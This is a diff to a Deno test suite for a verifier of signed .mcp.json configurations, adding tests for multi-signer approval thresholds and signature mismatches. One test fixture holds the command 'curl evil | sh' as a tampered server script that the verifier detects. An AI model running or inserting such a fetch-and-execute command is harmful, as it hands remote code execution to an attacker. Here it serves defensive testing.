@@ -19,7 +19,11 @@ import {
 import { generateSeed, publicKeyFromSeed } from "../../src/crypto/ed25519.ts";
 import { sha256Hex } from "../../src/crypto/sha.ts";
 import type { PrivateKey } from "../../src/format/private_key.ts";
-import { formatPublicKeyLine, keyId } from "../../src/format/public_key.ts";
+import {
+  encodePublicKeyBlob,
+  formatPublicKeyLine,
+  keyId,
+} from "../../src/format/public_key.ts";
 import { createSshSignature } from "../../src/format/sshsig.ts";
 import { formatIndex } from "../../src/store/index_file.ts";
 import { loadSignedConfig } from "../../src/verify/load_signed.ts";
@@ -478,9 +482,9 @@ async function failure(config: SignedConfig): Promise<VerificationError> {
 
 Deno.test("verifier: a verified config yields its signer's principals", async () => {
   const f = await signedFixture();
-  assert.deepEqual(await verifySignedConfig(await f.load(".mcp.json")), [
-    PRINCIPAL,
-  ]);
+  assert.deepEqual(await verifySignedConfig(await f.load(".mcp.json")), {
+    principals: [PRINCIPAL],
+  });
 });
 
 Deno.test("verifier: bytes that hash right but whose size differs from the statement's are MALFORMED", async () => {
@@ -569,7 +573,7 @@ Deno.test("verifier: a server file that changed, is missing or cannot be read is
     new Map([["scripts/server.sh", { status: "present" as const, bytes }]]);
   assert.deepEqual(
     await verifySignedConfig({ ...named, files: present(script) }),
-    [PRINCIPAL],
+    { principals: [PRINCIPAL] },
   );
   const cases: [SignedConfig, RegExp][] = [
     [{ ...named, files: present(encode("curl evil | sh\n")) }, /changed/],
@@ -598,4 +602,104 @@ Deno.test("verifier: a server file that changed, is missing or cannot be read is
     assert.match(error.message, /"scripts\/server\.sh", which its servers run/);
     assert.match(error.message, reason);
   }
+});
+
+// --- thresholds: approvals counted against the policy's rule -----------------
+
+const bob = await makeKey("bob");
+const alice2 = await makeKey("alice2");
+const BOB = "bob@example.com";
+
+async function keyHexOf(key: Key): Promise<string> {
+  return await sha256Hex(encodePublicKeyBlob(key.key.publicKey));
+}
+
+// alice signed .mcp.json; the rule asks for 2 of {alice, bob}; approvals by
+// the given keys (over the statement, or over `over`), named for `nameAs`.
+async function twoOfTwo(
+  approvers: { by: Key; over?: Uint8Array; nameAs?: Key }[],
+  eligible: readonly string[] = [PRINCIPAL, BOB],
+): Promise<SignedConfig> {
+  const f = new Fixture();
+  for (const path of Object.keys(CONFIGS)) f.write(path, CONFIGS[path]!);
+  f.trust(
+    {},
+    [
+      formatAllowedSigner(bob.key.publicKey, { principal: BOB }),
+      formatAllowedSigner(alice2.key.publicKey, { principal: PRINCIPAL }),
+      formatAllowedSigner(mallory.key.publicKey, {
+        principal: "mallory@example.com",
+      }),
+    ].join("\n") + "\n",
+  );
+  const id = await f.sign(".mcp.json");
+  const statement = f.read(`${STATEMENTS_DIR}/${id}`);
+  const config = await f.load(".mcp.json");
+  const approvals = [];
+  for (const { by, over, nameAs } of approvers) {
+    const keyHex = await keyHexOf(nameAs ?? by);
+    approvals.push({
+      path: `.mcp-orchestration/approvals/${id}/${keyHex}.sig`,
+      keyHex,
+      signatureText: await createSshSignature(over ?? statement, by.key, {
+        namespace: SIGNATURE_NAMESPACE,
+      }),
+    });
+  }
+  return {
+    ...config,
+    approvals,
+    requirement: {
+      eligible: new Set(eligible),
+      threshold: 2,
+      source: 'rule 1 (".mcp.json")',
+    },
+  };
+}
+
+async function pendingOf(config: SignedConfig): Promise<PolicyError> {
+  const error = await verifySignedConfig(config).then(
+    () => assert.fail("it verified"),
+    (error: unknown) => error,
+  );
+  assert.ok(error instanceof PolicyError, String(error));
+  assert.equal(error.code, "PENDING_APPROVAL", error.message);
+  return error;
+}
+
+Deno.test("verifier: 2 of {alice, bob} is pending with alice's signature alone, and names who may approve", async () => {
+  const error = await pendingOf(await twoOfTwo([]));
+  assert.deepEqual(error.approval?.mayApprove, [BOB]);
+  assert.deepEqual(error.approval?.approvedBy.map((a) => a.principal), [
+    PRINCIPAL,
+  ]);
+});
+
+Deno.test("verifier: bob's approval meets 2 of {alice, bob}", async () => {
+  const verified = await verifySignedConfig(await twoOfTwo([{ by: bob }]));
+  assert.deepEqual(
+    verified.approval?.approvedBy.map((a) => a.principal).sort(),
+    [PRINCIPAL, BOB],
+  );
+});
+
+Deno.test("verifier: the same key twice, or a second key of one principal, counts once", async () => {
+  await pendingOf(await twoOfTwo([{ by: alice }]));
+  await pendingOf(await twoOfTwo([{ by: alice2 }]));
+});
+
+Deno.test("verifier: a trusted key outside the rule's groups, or an unlisted key, does not count", async () => {
+  await pendingOf(await twoOfTwo([{ by: mallory }]));
+  await pendingOf(await twoOfTwo([{ by: bob }], [PRINCIPAL]));
+});
+
+Deno.test("verifier: an approval over other bytes, or named for another key, is BAD_SIGNATURE", async () => {
+  const other = await failure(
+    await twoOfTwo([{ by: bob, over: encode("another statement\n") }]),
+  );
+  assert.equal(other.code, "BAD_SIGNATURE");
+  assert.match(other.message, /does not verify over this statement/);
+  const renamed = await failure(await twoOfTwo([{ by: bob, nameAs: alice2 }]));
+  assert.equal(renamed.code, "BAD_SIGNATURE");
+  assert.match(renamed.message, /not by the key its name gives/);
 });
